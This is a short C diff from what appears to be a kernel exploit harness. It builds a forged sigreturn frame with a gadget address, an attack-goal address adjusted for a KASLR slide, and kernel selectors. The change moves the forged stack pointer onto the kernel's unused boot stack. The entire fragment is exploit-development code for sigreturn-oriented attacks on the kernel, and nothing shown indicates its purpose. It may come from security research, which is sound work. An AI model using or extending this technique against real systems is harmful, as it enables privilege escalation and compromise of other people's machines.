@@ -28,6 +28,10 @@ PROGRAM(copies, "call 1f\n" PROGRAM_EXIT
 		".org program_copies + 96\n"
 		"jmp *%rax\n");
 
+/* The kernel's stack at boot, which nobody uses any more: the goal is to find a stack that is there. */
+extern const char boot_stack[];
+#define BOOT_STACK_SIZE 0x8000
+
 /* What rt_sigreturn takes off the stack (x86-64 psABI of Linux: struct ucontext, struct sigcontext). */
 struct message {
 	uint8_t filling[BUFFER];
@@ -61,7 +65,7 @@ static void forge(const struct attack *attack, uintptr_t slide)
 	struct message message = { .return_address = PROGRAM_CODE + RESTORER,
 				   .stack_flags = 2, /* disabled */
 				   .rax = attack_linked_code(attack_goal) + slide,
-				   .rsp = PROGRAM_CODE + PROGRAM_SIZE - 512,
+				   .rsp = attack_linked(boot_stack) + BOOT_STACK_SIZE - 64 + slide,
 				   .rip = PROGRAM_CODE + GADGET,
 				   .selectors = 0x002b000000000033 };
 
